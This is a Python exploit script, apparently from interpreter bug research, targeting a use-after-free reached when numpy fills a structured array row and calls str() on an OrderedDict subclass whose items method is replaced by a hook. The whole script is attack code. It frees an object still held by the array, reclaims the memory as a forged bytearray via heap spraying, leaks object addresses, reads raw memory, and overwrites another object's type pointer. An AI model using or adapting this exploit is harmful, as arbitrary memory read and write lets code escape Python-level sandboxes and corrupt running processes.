# source: CPython Objects/odictobject.c odict_repr (a subclass's repr calls self.items() by name) reached from numpy UNICODE_setitem (PyObject_Str) inside VOID_setitem filling a structured row from a borrowed tuple
# family: str() of a library object that calls a method by name, the method replaced by an instance attribute bound to script code (OrderedDict subclass, ledger.items = hook) -> use-after-free in the structured row
# goal: dangling reference to a freed frozenset stored in the array, reclaimed as a fake bytearray: raw memory read and type-pointer write
import collections
import datetime
import numpy as np


class Ledger(collections.OrderedDict):
    pass


class Box:
    pass


class Other:
    pass


def q(n):
    return n.to_bytes(8, "little")


def bytearray_type():
    h = hash(bytearray) & (2**64 - 1)
    return ((h << 4) | (h >> 60)) & (2**64 - 1)


def where(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


rows = []


def hook():
    rows.clear()
    return [("k", 1)]


ledger = Ledger(a=1)
ledger.items = hook
rows.append((ledger, 1, 2, 3, 4, 5, 6, 7, 8, 9, frozenset([2])))
table = np.array(rows, dtype=[("t", "U40")] + [(f"c{i:d}", "O") for i in range(9)] + [("tag", "O")])
res = table[0]["tag"]
fake = q(2**40) + q(bytearray_type()) + q(2**62) + q(2**62) + q(0) + q(0) + q(0)
spray = []
for k in range(8):
    b = bytearray(215)
    b[16:16 + len(fake)] = fake
    spray.append(b)
print("dangling object is now a bytearray:", type(res) is bytearray, len(res))
bx = Box()
ot = Other()
wb, wo = where(bx), where(ot)
print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)
